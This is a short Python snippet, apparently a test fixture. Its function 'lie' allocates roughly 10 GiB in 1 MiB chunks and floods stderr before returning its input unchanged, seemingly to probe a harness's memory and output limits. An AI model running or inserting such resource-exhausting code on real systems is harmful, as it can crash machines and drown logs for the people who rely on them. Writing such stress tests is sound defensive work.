import sys


def lie(reply):
    taken = []
    while len(taken) < 10240:
        taken.append(bytearray(b"1") * (1 << 20))
        sys.stderr.write("taking" * 1000)
    return reply
